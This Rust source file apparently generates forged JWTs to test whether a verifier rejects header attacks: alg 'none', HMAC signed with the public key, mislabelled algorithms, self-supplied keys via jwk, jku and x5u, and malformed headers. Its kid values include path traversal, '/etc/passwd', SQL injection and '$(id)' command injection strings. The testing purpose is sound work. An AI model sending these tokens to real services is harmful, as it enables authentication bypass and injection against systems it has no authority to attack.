//! Attacks by the token's header: no algorithm, another one, another key, a key of one's own, a demand.

use serde_json::{Value, json};

use crate::attack::Attack;
use crate::signer::{Signer, base64url, mac, message};
use crate::stage::{Keys, MARK, claims, with, without};

const ALGORITHMS: [&str; 12] = [
    "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "ES256K",
    "EdDSA", "Ed448",
];

/// All of them.
pub(crate) fn attacks(keys: &Keys) -> Vec<Attack> {
    let mut attacks = no_algorithm(keys);
    attacks.extend(public_key_as_secret(keys));
    attacks.extend(other_algorithm(keys));
    attacks.extend(other_members(keys));
    attacks.extend(own_key(keys));
    attacks.extend(not_an_object(keys));
    attacks.extend(repeated(keys));
    attacks
}

/// A token signed well by `signer` whose header has other members.
fn changed(signer: &Signer, changes: &Value) -> Attack {
    let header = with(signer.header(), changes);
    let token = signer.token(header.to_string(), claims().to_string());
    Attack::token(format!("header {changes:.60}"), &token)
}

fn no_algorithm(keys: &Keys) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for algorithm in ["none", "None", "NONE", "nOnE", "none ", "", "null"] {
        let header = with(keys.ed.header(), &json!({"alg": algorithm})).to_string();
        let message = message(&header, claims().to_string());
        let signature = base64url(keys.ed.sign("EdDSA", &message));
        for (what, token) in [
            ("no signature", format!("{message}.")),
            ("no segment for it", message.clone()),
            ("some signature", format!("{message}.AAAA")),
            ("a good signature", format!("{message}.{signature}")),
        ] {
            attacks.push(Attack::token(format!("alg {algorithm:?}, {what}"), &token));
        }
    }
    let header = without(keys.ed.header(), "alg").to_string();
    let token = keys.ed.token(header, claims().to_string());
    attacks.push(Attack::token("alg missing", &token));
    for alg in [
        json!(null),
        json!(1),
        json!(["EdDSA"]),
        json!({}),
        json!(false),
    ] {
        attacks.push(changed(&keys.ed, &json!({"alg": alg})));
    }
    attacks
}

fn public_key_as_secret(keys: &Keys) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for signer in keys.good() {
        let mut forms = signer.public_forms();
        forms.push(("nothing", Vec::new()));
        for (form, secret) in forms {
            for algorithm in ["HS256", "HS384", "HS512"] {
                let header = with(signer.header(), &json!({"alg": algorithm})).to_string();
                let message = message(&header, claims().to_string());
                let signature = mac(algorithm, &secret, message.as_bytes());
                let token = format!("{message}.{}", base64url(signature));
                let name = format!("{algorithm} by the {form} of {}", signer.id);
                attacks.push(Attack::token(name, &token));
            }
        }
    }
    attacks
}

fn other_algorithm(keys: &Keys) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for signer in keys.good() {
        let lower = signer.algorithm.to_lowercase();
        let padded = format!("{} ", signer.algorithm);
        let names = ALGORITHMS
            .into_iter()
            .chain([lower.as_str(), padded.as_str()]);
        for name in names.filter(|name| *name != signer.algorithm) {
            let header = with(signer.header(), &json!({"alg": name})).to_string();
            let token = signer.token(&header, claims().to_string());
            let what = format!("{} labelled {name:?}", signer.algorithm);
            attacks.push(Attack::token(what, &token));
        }
    }
    for signer in [&keys.rs, &keys.ps] {
        for name in &ALGORITHMS[..6] {
            if *name == signer.algorithm {
                continue;
            }
            for label in [name, signer.algorithm] {
                let header = with(signer.header(), &json!({"alg": label})).to_string();
                let message = message(&header, claims().to_string());
                let signature = base64url(signer.sign(name, &message));
                let what = format!(
                    "key for {} signs {name}, labelled {label}",
                    signer.algorithm
                );
                attacks.push(Attack::token(what, &format!("{message}.{signature}")));
            }
        }
    }
    // The key of another kind, named with its own algorithm.
    for signer in keys.good() {
        for named in keys.good() {
            if named.id != signer.id {
                attacks.push(changed(signer, &json!({"kid": named.id})));
            }
        }
    }
    attacks
}

fn other_members(keys: &Keys) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for name in ["kid", "typ"] {
        let header = without(keys.ed.header(), name).to_string();
        let token = keys.ed.token(header, claims().to_string());
        attacks.push(Attack::token(format!("{name} missing"), &token));
    }
    for kid in [
        json!("../../../../../../dev/null"),
        json!("/dev/null"),
        json!("ed/../ed"),
        json!("file:///etc/passwd"),
        json!("https://kanarienvogel.example.net/keys"),
        json!("ed' OR '1'='1"),
        json!("'; DROP TABLE event; --"),
        json!("x' UNION SELECT 'ed' --"),
        json!("$(id)"),
        json!("ed\0"),
        json!("\0"),
        json!("ed\n"),
        json!(" ed"),
        json!("ed "),
        json!("ED"),
        json!("%65d"),
        json!("\u{ff45}\u{ff44}"),
        json!(""),
        json!("nobody"),
        json!("only-other"),
        json!("e".repeat(129)),
        json!("e".repeat(4_000)),
        json!(null),
        json!(1),
        json!(true),
        json!(["ed"]),
        json!({"kid": "ed"}),
    ] {
        attacks.push(changed(&keys.ed, &json!({"kid": kid})));
    }
    for typ in [
        json!("id_token"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!("JOSE"),
        json!("application/jwt2"),
        json!("JWT "),
        json!("JWT\0"),
        json!(""),
        json!(null),
        json!(7),
        json!(["at+jwt"]),
    ] {
        attacks.push(changed(&keys.ed, &json!({"typ": typ})));
    }
    // What brings a key along, demands something, or says that the claims are to be read otherwise.
    let jwk = keys.ed.public();
    for changes in [
        json!({"jku": "https://kanarienvogel.example.org/keys"}),
        json!({"jku": "http://127.0.0.1/keys"}),
        json!({"x5u": "https://kanarienvogel.example.org/certificate"}),
        json!({"x5c": ["MIIB"]}),
        json!({"x5c": []}),
        json!({"jwk": jwk}),
        json!({"crit": ["exp"]}),
        json!({"crit": []}),
        json!({"crit": ["b64"], "b64": true}),
        json!({"crit": "exp"}),
        json!({"b64": true}),
        json!({"b64": false}),
        json!({"cty": "JWT"}),
        json!({"cty": "at+jwt"}),
        json!({"zip": "DEF"}),
        json!({"enc": "A256GCM"}),
        json!({"epk": keys.ed.public()}),
    ] {
        attacks.push(changed(&keys.ed, &changes));
    }
    for name in [
        "jku", "x5u", "x5c", "jwk", "crit", "b64", "cty", "zip", "enc", "epk",
    ] {
        attacks.push(changed(&keys.ed, &json!({name: null})));
    }
    attacks
}

/// Signed by a key that nobody published, and that the token brings along.
fn own_key(keys: &Keys) -> Vec<Attack> {
    let signer = &keys.nobody;
    let place = format!("https://{MARK}.example.net/keys");
    let attacks = [
        json!({}),
        json!({"kid": "ed"}),
        json!({"kid": "ed", "jwk": signer.public()}),
        json!({"jwk": signer.public()}),
        json!({"jku": place}),
        json!({"x5u": place}),
        json!({"x5c": [base64url(signer.public_bytes())]}),
        json!({"kid": "ed", "x5t": "AA", "x5t#S256": "AA"}),
    ];
    let attacks = attacks.iter().map(|changes| {
        let mut attack = changed(signer, changes);
        attack.name.push_str(", signed by nobody");
        attack
    });
    attacks.collect()
}

fn not_an_object(keys: &Keys) -> Vec<Attack> {
    let good = keys.ed.header().to_string();
    let deep = format!(
        r#"{{"x":{}{},{}"#,
        "[".repeat(60),
        "]".repeat(60),
        &good[1..]
    );
    [
        (
            "a list of the values",
            r#"["EdDSA","ed","at+jwt"]"#.as_bytes().to_vec(),
        ),
        ("a list of the header", format!("[{good}]").into_bytes()),
        ("null", b"null".to_vec()),
        ("a number", b"1".to_vec()),
        ("a text", json!(good).to_string().into_bytes()),
        ("two objects", format!("{good}{good}").into_bytes()),
        ("a comma at its end", good.replace('}', ",}").into_bytes()),
        ("a comment", format!("/**/{good}").into_bytes()),
        ("single quotes", good.replace('"', "'").into_bytes()),
        ("a byte order mark", format!("\u{feff}{good}").into_bytes()),
        (
            "a byte that is not UTF-8",
            [good.as_bytes(), &[0xff]].concat(),
        ),
        (
            "UTF-16",
            good.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        ),
        ("half of itself", good.as_bytes()[..good.len() / 2].to_vec()),
        ("nested too deeply", deep.into_bytes()),
    ]
    .into_iter()
    .map(|(what, header)| {
        let token = keys.ed.token(header, claims().to_string());
        Attack::token(format!("the header is {what}"), &token)
    })
    .collect()
}

fn repeated(keys: &Keys) -> Vec<Attack> {
    let good = keys.ed.header().to_string();
    [
        r#""alg":"none""#,
        r#""alg":"EdDSA""#,
        r#""alg":"HS256""#,
        r#""\u0061lg":"none""#,
        r#""kid":"nobody""#,
        r#""kid":"ed""#,
        r#""k\u0069d":"ed""#,
        r#""typ":"JWT""#,
        r#""x":1,"x":1"#,
        r#""x":{"y":1,"y":2}"#,
    ]
    .into_iter()
    .flat_map(|member| {
        let first = format!("{{{member},{}", &good[1..]);
        let last = format!("{},{member}}}", &good[..good.len() - 1]);
        [(first, "first"), (last, "last")].map(|(header, place)| {
            let token = keys.ed.token(header, claims().to_string());
            Attack::token(format!("header with {member} again, {place}"), &token)
        })
    })
    .collect()
}
